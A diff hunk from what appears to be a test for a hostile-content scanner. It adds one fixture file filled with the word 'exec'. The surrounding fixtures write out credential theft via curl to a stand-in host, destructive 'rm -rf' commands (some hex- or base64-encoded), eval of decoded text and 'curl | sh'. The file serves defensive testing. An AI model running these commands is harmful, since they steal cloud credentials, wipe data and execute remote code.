@@ -80,6 +80,8 @@ def _written_at_limits() -> list[tuple[str, str]]:
         ("src/blobs.js", _filled("'726d202d7266207e' 'cm0gLXJmIH4gL3RtcA==' ", limit)),
         ("src/joined.js", _filled("'a' + 'b' + ", limit)),
         ("src/dots.py", _filled("a.", limit)),
+        # The name of a call that runs code, never called: a place for every cue to try.
+        ("src/words.js", _filled("exec ", limit)),
         ("bin/run.sh", _filled("curl -d @~/.aws/credentials http://x.io; eval $(echo aGk= | base64 -d)\n", limit)),
         ("Makefile", _filled("all:\n\trm -rf $(HOME)\n\tcurl x | sh\n", limit)),
         ("package.json", _filled('"a": "rm -rf ~", ', limit)),
